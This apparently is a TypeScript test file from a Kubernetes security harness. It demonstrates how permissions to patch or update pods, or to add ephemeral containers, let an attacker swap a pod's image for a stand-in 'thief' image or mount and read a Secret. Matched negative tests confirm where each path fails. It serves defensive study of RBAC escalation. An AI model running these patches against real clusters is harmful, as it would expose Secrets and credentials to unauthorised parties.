import { describe, expect, test } from 'vitest'
import type { Answer, Attacker } from '../attacker.ts'
import { attackerIn, demonstrate, stage } from '../demonstration.ts'
import { expectReach } from '../reach-expectation.ts'
import type { Given } from '../given.ts'
import type { Scene } from '../scene.ts'
import { kubeletGets, kubeletOf, nodeOf } from './kubelet.ts'
import { FORMS, namesTarget, plainSpec, pod, thiefSpec } from './objects.ts'
import { podPath, runningPod } from './running.ts'

const STRATEGIC = 'application/strategic-merge-patch+json'
const victim = pod('victim', thiefSpec())
const bystander = pod('bystander', plainSpec())

describe('the image of a pod that is given the Secret', () => {
  demonstrate({
    id: 'P3',
    title: 'a patch replaces the image',
    proof: 'accepted',
    kubelet: 'run it with the Secret of the pod',
    given: runningPod(victim, 'pods', 'patch'),
    attack: (attacker, scene) =>
      attacker.patch(podPath(scene, 'victim'), image('registry.example/thief'), STRATEGIC),
    without: 'patch of pods itself: to resize them is not enough',
    twin: runningPod(victim, 'pods/resize', 'patch', 'update'),
  })

  demonstrate({
    id: 'P3',
    title: 'an update replaces the image',
    proof: 'accepted',
    kubelet: 'run it with the Secret of the pod',
    given: runningPod(victim, 'pods', 'get', 'update'),
    attack: async (attacker, scene) => {
      const path = podPath(scene, 'victim')
      const { json } = await attacker.get(path)
      json.spec.containers[0].image = 'registry.example/thief'
      return attacker.request('PUT', path, { body: json })
    },
    without: 'update',
    twin: runningPod(victim, 'pods', 'get'),
  })

  test.each(Object.entries(FORMS))(
    'P3: a patch cannot give the Secret to a pod that has it not, as %s',
    async (_form, { container = {}, spec = {} }) => {
      const scene = await stage(runningPod(bystander, 'pods', 'patch'), 'P3')
      await expectReach(scene, { id: 'P3', verdict: 'no' })
      const body = { spec: { containers: [{ name: 'main', ...container }], ...spec } }
      const path = podPath(scene, 'bystander')
      const contentType = STRATEGIC
      const answer = await attackerIn(scene).try('PATCH', path, { body, contentType })
      expect(answer.status).toBe(422)
      const node = await nodeOf(scene, (json) => json.includes('"name":"bystander"'))
      const kubelet = await kubeletOf(scene, node)
      expect((await kubelet.try('GET', scene.secret.path)).status).toBe(403)
    },
  )
})

describe('an ephemeral container', () => {
  for (const [form, { container = {} }] of Object.entries(FORMS).filter(isEnvironment)) {
    demonstrate({
      id: 'P4',
      title: `the kubelet of a running pod that has nothing is given the Secret for ${form} of an ephemeral container`,
      given: runningPod(bystander, 'pods/ephemeralcontainers', 'patch'),
      attack: (attacker, scene) => debug(attacker, scene, container),
      without: 'patch of pods/ephemeralcontainers',
      twin: runningPod(bystander, 'pods', 'patch', 'update'),
    })
  }

  demonstrate({
    id: 'P4',
    title: 'an update that names only the new container is enough',
    given: runningPod(bystander, 'pods/ephemeralcontainers', 'update'),
    attack: async (attacker, scene) => {
      const path = `${podPath(scene, 'bystander')}/ephemeralcontainers`
      const body = pod('bystander', ephemeral(FORMS['env']?.container))
      await attacker.request('PUT', path, { body })
      return kubeletGets(scene, namesTarget)
    },
    without: 'update',
    twin: runningPod(bystander, 'pods/ephemeralcontainers', 'get'),
  })

  demonstrate({
    id: 'P4',
    title: 'a volume that the pod has may be mounted by an ephemeral container',
    proof: 'accepted',
    kubelet: 'mount it',
    given: runningPod(volumeVictim(), 'pods/ephemeralcontainers', 'patch'),
    attack: mountInto,
    without: 'that volume: an ephemeral container cannot bring one',
    twin: runningPod(bystander, 'pods/ephemeralcontainers', 'patch'),
    twinEnds: 422,
    // The environment of an ephemeral container may name the Secret all the same.
    reach: { twin: 'yes', twinRow: 'P4' },
  })

  demonstrate({
    id: 'P4',
    title: 'any running pod of the namespace will do, and one is needed',
    given: runningPod(bystander, 'pods/ephemeralcontainers', 'patch'),
    attack: (attacker, scene) => debug(attacker, scene, FORMS['envFrom']?.container),
    without: 'a pod',
    twin: { rules: [{ verbs: ['patch'], resources: ['pods/ephemeralcontainers'] }] },
    twinEnds: 404,
  })
})

describe('an ephemeral container of a service account that may mount only its own Secrets', () => {
  const may = runningPod(bystander, 'pods/ephemeralcontainers', 'patch')
  for (const [form, { container = {} }] of Object.entries(FORMS).filter(isEnvironment)) {
    demonstrate({
      id: 'P4',
      title: `the Secret is among them, as ${form}`,
      given: (scene) => limited(may(scene), scene, [{ name: scene.secret.name }]),
      attack: (attacker, scene) => debug(attacker, scene, container),
      without: 'being among them',
      // Admission refuses with an error of no status of its own.
      twinEnds: 500,
      twin: (scene) => limited(may(scene), scene, []),
    })
  }
})

/** Limits the account of the running pod once it runs; https://kubernetes.io/docs/concepts/security/service-accounts/#enforce-mountable-secrets. */
function limited(given: Given, { admin, namespace }: Scene, secrets: readonly object[]): Given {
  const annotations = { 'kubernetes.io/enforce-mountable-secrets': 'true' }
  const account = `/api/v1/namespaces/${namespace}/serviceaccounts/default`
  return {
    ...given,
    async prepare() {
      await given.prepare?.()
      await admin.patch(account, { metadata: { annotations }, secrets })
    },
  }
}

function isEnvironment([form]: readonly [string, unknown]): boolean {
  return form.startsWith('env')
}

function image(name: string): object {
  return { spec: { containers: [{ name: 'main', image: name }] } }
}

function ephemeral(container: object = {}): Readonly<Record<string, unknown>> {
  const named = { name: 'debug', image: 'registry.example/thief', ...container }
  return { ephemeralContainers: [named] }
}

async function debug(attacker: Attacker, scene: Scene, container?: object): Promise<Answer> {
  const path = `${podPath(scene, 'bystander')}/ephemeralcontainers`
  await attacker.patch(path, { spec: ephemeral(container) }, STRATEGIC)
  return kubeletGets(scene, namesTarget)
}

/** A pod that mounts the Secret; of the same name, so that the twin's is asked the same. */
function volumeVictim(): ReturnType<typeof pod> {
  const { container, spec } = FORMS['a volume'] ?? {}
  return pod('bystander', plainSpec(spec, container))
}

function mountInto(attacker: Attacker, scene: Scene): Promise<Answer> {
  const path = `${podPath(scene, 'bystander')}/ephemeralcontainers`
  const mounts = { volumeMounts: [{ name: 's', mountPath: '/s' }] }
  return attacker.patch(path, { spec: ephemeral(mounts) }, STRATEGIC)
}
